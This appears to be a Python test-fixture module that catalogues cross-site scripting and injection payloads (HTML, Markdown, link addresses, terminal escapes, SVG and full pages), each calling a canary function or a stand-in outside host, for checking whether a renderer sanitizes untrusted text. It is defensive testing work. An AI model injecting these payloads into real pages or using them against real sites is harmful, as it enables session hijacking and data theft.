"""Texts and files that run something, or ask another origin for something, wherever a page lets them.

Each calls ``canary(NAME)``, or asks for an address at ``ELSEWHERE`` that ends with its name. ``naive`` is the page that
a careless program would make of it; there it does what it is for, which a test shows before anything is concluded.
"""

import html
import re
from dataclasses import dataclass
from typing import Final, Literal

from markdown_it import MarkdownIt

ELSEWHERE: Final = "http://elsewhere.example"

Kind = Literal["html", "markdown", "address", "terminal", "svg", "page"]


@dataclass(frozen=True)
class Payload:
    """Something hostile.

    Attributes:
        kind: HTML inside a text; Markdown; the address of a link; what a program prints; an SVG file; an HTML file.
        around: the careless page, with ``{}`` where the text goes.
        click: whether somebody has to click.
    """

    name: str
    kind: Kind
    text: str
    around: str = "<body>{}</body>"
    click: bool = False

    @property
    def naive(self) -> tuple[str, bytes]:
        """Return media type and content of the careless page."""
        if self.kind == "svg":
            return "image/svg+xml", self.text.encode()
        if self.kind == "page":
            return "text/html", self.text.encode()
        text = self.text
        if self.kind == "markdown":
            text = _Careless("commonmark", {"html": True}).render(text)
        if self.kind == "address":
            text = f'<a href="{html.escape(text)}">x</a>'
        if self.kind == "terminal":
            text = re.sub(r"\x1b\]8;;(.*?)\x1b\\(.*?)\x1b\]8;;\x1b\\", r'<a href="\1">\2</a>', text)
            text = re.sub(r"\x1b\[[0-9;]*m", "", text)
        return "text/html", ("<!doctype html><meta charset=utf-8>" + self.around.replace("{}", text)).encode()


class _Careless(MarkdownIt):
    """Takes every link for good."""

    def validateLink(self, url: str) -> bool:  # noqa: N802 - the library's name
        return bool(url)


def _html(name: str, text: str, around: str = "<body>{}</body>", *, click: bool = False) -> Payload:
    return Payload(name, "html", _filled(name, text), around, click)


def _filled(name: str, text: str) -> str:
    return text.replace("RUN", f"canary('{name}')").replace("THERE", f"{ELSEWHERE}/{name}")


_HTML: Final = (
    _html("script", "<script>RUN</script>"),
    _html("module", "<script type=module>RUN</script>"),
    _html("image-error", '<img src=x onerror="RUN">'),
    _html("image-remote", "<img src=THERE>"),
    _html("image-set", '<img srcset="THERE 1x">'),
    _html("picture", "<picture><source srcset=THERE><img src=x></picture>"),
    _html("svg-load", '<svg onload="RUN"></svg>'),
    _html("svg-script", "<svg><script>RUN</script></svg>"),
    _html("svg-animate", '<svg><animate onbegin="RUN" attributeName=x dur=1s></animate></svg>'),
    _html("svg-link", '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>', click=True),
    _html("frame-document", '<iframe srcdoc="<script>RUN</script>"></iframe>'),
    _html("frame-address", '<iframe src="javascript:RUN"></iframe>'),
    _html("frame-remote", "<iframe src=THERE></iframe>"),
    _html("frame-data", '<iframe src="data:text/html,<script>RUN</script>"></iframe>'),
    _html("details", '<details open ontoggle="RUN">x</details>'),
    _html("video-source", '<video><source onerror="RUN"></video>'),
    _html("video-poster", "<video poster=THERE></video>"),
    _html("audio", '<audio src=x onerror="RUN"></audio>'),
    _html("focus", '<input autofocus onfocus="RUN">'),
    _html("style-import", "<style>@import 'THERE';</style>"),
    _html("style-url", '<div style="background:url(THERE)">x</div>'),
    _html("stylesheet", "<link rel=stylesheet href=THERE>"),
    _html("refresh", '<meta http-equiv=refresh content="0;url=THERE">'),
    _html("object", "<object data=THERE></object>"),
    _html("embed", "<embed src=THERE>"),
    _html("base", f'<base href="{ELSEWHERE}/"><img src=base>'),
    _html("dangling", "<img src='THERE?", "<body>{} what follows ' ></body>"),
    _html("noscript", '<noscript><p title="</noscript><img src=x onerror=RUN>">x</noscript>'),
    _html("from-textarea", "</textarea><script>RUN</script>", "<textarea>{}</textarea>"),
    _html("from-title", "</title><script>RUN</script>", "<title>{}</title>"),
    _html("from-style", "</style><script>RUN</script>", "<style>{}</style>"),
    _html("from-comment", "--><script>RUN</script>", "<!-- {} -->"),
    _html("from-attribute", '" autofocus onfocus="RUN', '<input value="{}">'),
    _html("from-quotes", "' autofocus onfocus=RUN x='", "<input value='{}'>"),
    _html("from-script", "</script><script>RUN</script>", '<script>const told = "{}";</script>'),
    _html("from-string", '";RUN;"', '<script>const told = "{}";</script>'),
    _html("from-template", "${RUN}", "<script>const told = `{}`;</script>"),
)

_MARKDOWN: Final = tuple(
    Payload(name, "markdown", _filled(name, text), click=click)
    for name, text, click in (
        ("md-link", "[x](javascript:RUN)", True),
        ("md-link-case", "[x](JaVaScRiPt:RUN)", True),
        ("md-link-entity", "[x](javascript&colon;RUN)", True),
        ("md-link-angle", "[x](<javascript:RUN>)", True),
        ("md-autolink", "<javascript:RUN>", True),
        ("md-reference", "[x][md]\n\n[md]: javascript:RUN", True),
        ("md-image", "![x](THERE)", False),
        ("md-block", '<div>\n\n<img src=x onerror="RUN">\n\n</div>', False),
    )
)

_ADDRESSES: Final = tuple(
    Payload(name, "address", _filled(name, text), click=True)
    for name, text in (
        ("address", "javascript:RUN"),
        ("address-space", " \tjavascript:RUN"),
        ("address-line", "java\nscript:RUN"),
        ("address-like", "javascript://locks.example/%0ARUN"),
    )
)

_TERMINAL: Final = (
    Payload("osc-link", "terminal", "\x1b]8;;javascript:canary('osc-link')\x1b\\click\x1b]8;;\x1b\\", click=True),
    Payload("ansi-image", "terminal", "\x1b[31m<img src=x onerror=canary('ansi-image')>\x1b[0m"),
)

_SVG_START: Final = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
_SVG: Final = tuple(
    Payload(name, "svg", _filled(name, f"{_SVG_START}{text}</svg>"), click=click)
    for name, text, click in (
        ("file-svg-load", 'onload="RUN">', False),
        ("file-svg-script", "><script>RUN</script>", False),
        ("file-svg-image", '><image href="THERE" width="9" height="9"/>', False),
        ("file-svg-style", "><style>@import 'THERE';</style>", False),
        ("file-svg-link", '><a href="javascript:RUN"><text y="20">click</text></a>', True),
        (
            "file-svg-foreign",
            '><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="RUN"/></foreignObject>',
            False,
        ),
    )
)

_PAGES: Final = tuple(
    Payload(name, "page", _filled(name, f"<!doctype html><title>x</title><body>{text}"))
    for name, text in (
        ("file-page-script", "<script>RUN</script>"),
        ("file-page-fetch", "<script>fetch('THERE', {mode: 'no-cors'})</script>"),
        ("file-page-top", "<script>top.location = 'THERE'</script>"),
        ("file-page-form", "<form action=THERE><input name=a></form><script>document.forms[0].submit()</script>"),
        ("file-page-refresh", '<meta http-equiv=refresh content="0;url=THERE">'),
        ("file-page-parent", "<script>parent.canary('file-page-parent')</script>"),
        ("file-page-image", "<img src=THERE>"),
    )
)

PAYLOADS: Final = (*_HTML, *_MARKDOWN, *_ADDRESSES, *_TERMINAL, *_SVG, *_PAGES)

TEXTS: Final = "\n\n".join(one.text for one in PAYLOADS if one.kind in ("html", "markdown", "terminal"))
"""All that stands in texts, in paragraphs of their own. What swallows the rest where it is taken as HTML comes late."""
